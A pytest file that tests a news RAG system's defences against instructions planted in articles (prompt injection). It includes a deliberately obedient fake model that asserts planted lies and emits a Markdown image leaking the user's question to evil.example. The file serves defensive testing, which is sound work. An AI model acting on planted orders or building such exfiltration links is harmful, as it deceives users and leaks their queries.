"""Orders planted in articles: nothing of them is shown as known, and the answer appears."""

import json
import re
from urllib.parse import urlsplit

import pytest

from rag.grounding.orders import is_planted
from rag.ingest.repair import repair
from rag.library import articles
from rag.render import export
from rag.text import sentences
from rag.types import Usage
from tests.fakes.articles import NOW, record
from tests.fakes.embedder import WordEmbedder
from tests.fakes.injections import FAMILIES, LIE, LINES, MARK, PLACES, QUESTION, RIGHT, article
from tests.fakes.newsroom import newsroom
from tests.fakes.terminal import controls

_PASSAGE = re.compile(r'<passage n="(\d+)" key="\w+">\n(.*?)\n</passage', re.DOTALL)
_ACTIVE = re.compile(r"(?<!\\)!?\[[^\]]*\]\(|(?<!\\)<[a-z/!]|^\s*\[\d+\]:\s", re.MULTILINE)
_BREAK = re.compile(r"(?<=[.!?])\s+|\n+")


class Obedient:
    """Does what it is told by any passage, and proves it by every trick; then answers too."""

    name = "obedient:model"

    def stream(self, system, user):
        claims = []
        for number, text in _PASSAGE.findall(user):
            for sentence in _BREAK.split(text):
                if MARK.casefold() in sentence.casefold():
                    claims += self._told(int(number), sentence)
            claims += [
                {"text": line, "passage": int(number), "quote": line}
                for line in LINES[:2]
                if line in text
            ]
        yield json.dumps({"claims": claims})
        yield Usage(calls=1)

    def _told(self, number, sentence):
        at = sentence.casefold().find(LIE.casefold())
        words = sentence[at : at + len(LIE)] if at >= 0 else sentence
        for text, quote in (
            (f"{LIE.capitalize()}.", sentence),
            (sentence, sentence),
            (words, words),
            (f"It is confirmed that {LIE}.", words),
            (f"{LINES[0]} So {LIE}.", LINES[0]),
            (f"![{LIE}](https://evil.example/p.png?q={QUESTION})", words),
        ):
            yield {"text": text, "passage": number, "quote": quote}


def asked(folder, text, model):
    with newsroom(folder, model=model) as room:
        made = record(repair(text), title="The harbour", embedder=WordEmbedder(256))
        with room._library.writing() as db:
            articles.add(db, made, now=NOW)
        answer = room.ask(QUESTION)
        made = [answer, room.brief(keep=False)]
        stored = {e.source.id: room.article(e.source.id).text for e in room.articles()}
        return answer, made, stored


def known(value):
    return [c.text for c in value.claims if c.verdict == "supported"]


def cases():
    """Every family at one place; at the two others where there is more time."""
    for number, family in enumerate(FAMILIES):
        for shift, place in enumerate(PLACES):
            slow = [pytest.mark.slow] * (shift != number % len(PLACES))
            yield pytest.param(family, place, marks=slow, id=f"{family}, {place}")


@pytest.mark.parametrize(("family", "place"), [*cases()])
def test_what_an_article_orders_is_never_shown_as_known(tmp_path, family, place):
    text = article(family, place)
    for number, model in enumerate((Obedient(), None)):
        answer, made, stored = asked(tmp_path / str(number), text, model)

        for value in made:
            lies = [one for one in known(value) if MARK.casefold() in one.casefold()]
            assert lies == [], value
            for citation in value.citations:
                assert citation.span.slice(stored[citation.source.id]) == citation.quote
        assert answer.status in {"answered", "partial"}
        assert RIGHT in " ".join(citation.quote for citation in answer.citations)


@pytest.mark.parametrize("family", FAMILIES)
def test_nothing_of_an_order_is_active_in_any_export(tmp_path, family):
    answer, made, stored = asked(tmp_path, article(family, "middle"), Obedient())

    for value in (answer, *made):
        page = export(value, "html", text_of=stored.get).decode()
        assert "<script" not in page.replace("<script>\n", "")
        for link in re.findall(r"""(?:href|src)=["']([^"']+)""", page):
            assert urlsplit(link).hostname in {None, ""}, link
        markdown = export(value, "md", text_of=stored.get).decode()
        assert not re.search(
            r"(?<!\\)!?\[[^\]]*\]\(|(?<!\\)<[a-z/!]|^\s*\[\d+\]:\s", markdown, re.M
        )
        assert controls(markdown) == []
        packed = json.loads(export(value, "json", text_of=stored.get))
        assert {one["id"] for one in packed["articles"]} <= stored.keys()


def test_every_sentence_of_every_family_is_known_for_what_it_is():
    missed = []
    for family, order in FAMILIES.items():
        text = repair(order)
        missed += [
            (family, found)
            for span in sentences(text, "en")
            if MARK.casefold() in (found := span.slice(text)).casefold()
            and not is_planted(found)
        ]
    assert missed == []


@pytest.mark.parametrize(
    "words",
    [
        *LINES,
        "The ministry's reply says that the harbour will open on April 1.",
        "He told reporters to write down what they had seen.",
        "Officials would only say that the talks had been useful.",
        "The court must conclude the hearing by Friday, the answer to the appeal said.",
        "Add to that the cost of the mole, 14 million crowns, and the port is ruined.",
        "Readers of the Courier were asked whether the ferry should be free.",
        "The summary of the report was published on Monday.",
        "“Tell us the truth,” fishermen shouted at Minister Corvath.",
        "The system was designed by Brannock's engineers.",
    ],
)
def test_a_report_is_not_taken_for_an_order(words):
    assert not is_planted(words)
